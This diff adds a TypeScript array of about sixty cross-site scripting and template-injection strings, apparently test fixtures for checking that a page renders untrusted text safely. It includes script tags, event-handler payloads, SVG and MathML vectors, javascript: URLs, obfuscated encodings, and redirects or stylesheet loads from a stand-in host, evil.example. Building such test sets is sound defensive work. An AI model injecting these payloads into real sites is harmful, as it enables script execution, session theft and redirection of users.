@@ -1,0 +1,73 @@
+/**
+ * Texts that become a script, a style or another page where a page takes them for more than text. None
+ * is longer than a name may be; those that run call `hit`.
+ */
+export const SCRIPT_TEXTS: readonly string[] = [
+  // Tags of scripts.
+  '<script>hit(1)</script>',
+  '<ScRiPt >hit(2)</sCrIpT >',
+  '<script src=data:,hit(3)></script>',
+  '<script type=module>hit(4)</script>',
+  '</textarea></title></style><script>hit(5)</script>',
+  '--><script>hit(6)</script><!--',
+  ']]><script>hit(7)</script>',
+  '<scr<script>ipt>hit(8)</scr</script>ipt>',
+  '<script/x>hit(9)</script/x>',
+  '<<script>hit(10);//<</script>',
+  // Handlers of events.
+  '<img src=x onerror=hit(11)>',
+  '"><img src=x onerror=hit(12)>',
+  "'><img src=x onerror='hit(13)'>",
+  '<img src="x" onerror="hit(14)"/>',
+  '<body onload=hit(15)>',
+  '<input autofocus onfocus=hit(16)>',
+  '" autofocus onfocus=hit(17) x="',
+  "' onmouseover='hit(18)",
+  '<details open ontoggle=hit(19)>',
+  '<video><source onerror=hit(20)></video>',
+  '<audio src=x onerror=hit(21)>',
+  '<marquee onstart=hit(22)>x</marquee>',
+  '<a onclick=hit(23) href=#>x</a>',
+  '<select autofocus onfocus=hit(24)>',
+  '<div style=animation-name:x onanimationstart=hit(25)>',
+  '<iframe onload=hit(26)></iframe>',
+  // Drawings and formulas.
+  '<svg onload=hit(27)>',
+  '<svg/onload=hit(28)//',
+  '<svg><script>hit(29)</script></svg>',
+  '<svg><animate onbegin=hit(30) attributeName=x dur=1s>',
+  '<svg><a xlink:href=javascript:hit(31)><text y=9>x</text></a>',
+  '<math href=javascript:hit(32)>x</math>',
+  '<math><mtext><script>hit(33)</script>',
+  '<svg><style><img src=x onerror=hit(34)></style>',
+  '<noscript><p title="</noscript><img src=x onerror=hit(35)>">',
+  // Addresses that run, and pages within the page.
+  'javascript:hit(36)',
+  'JaVaScRiPt:hit(37)',
+  'java\u200bscript:hit(38)',
+  'javascript://%0ahit(39)',
+  'data:text/html,<script>hit(40)</script>',
+  '<a href=javascript:hit(41)>x</a>',
+  '<iframe src=javascript:hit(42)></iframe>',
+  '<iframe srcdoc="<script>parent.hit(43)</script>"></iframe>',
+  '<form action=javascript:hit(44)><input type=submit>',
+  '<base href=https://evil.example/>',
+  '<meta http-equiv=refresh content=0;url=https://evil.example>',
+  '<object data=javascript:hit(45)>',
+  // Templates.
+  "{{constructor.constructor('hit(46)')()}}",
+  '{{$el.ownerDocument.defaultView.hit(47)}}',
+  '{{_Vue.h.constructor`hit(48)`()}}',
+  '${hit(49)}',
+  '<%= hit(50) %>',
+  '#{hit(51)}',
+  // Styles.
+  '<style>*{display:none!important}</style>',
+  '<link rel=stylesheet href=https://evil.example/x.css>',
+  // Written otherwise.
+  '&lt;script&gt;hit(52)&lt;/script&gt;',
+  '%3Cscript%3Ehit(53)%3C/script%3E',
+  '\\u003cscript\\u003ehit(54)\\u003c/script\\u003e',
+  '\u202e<script>hit(55)</script>\u202c',
+  '<\u200dscript>hit(56)</script>\u200b\u2066<img src=x onerror=hit(57)>\u2069',
+]
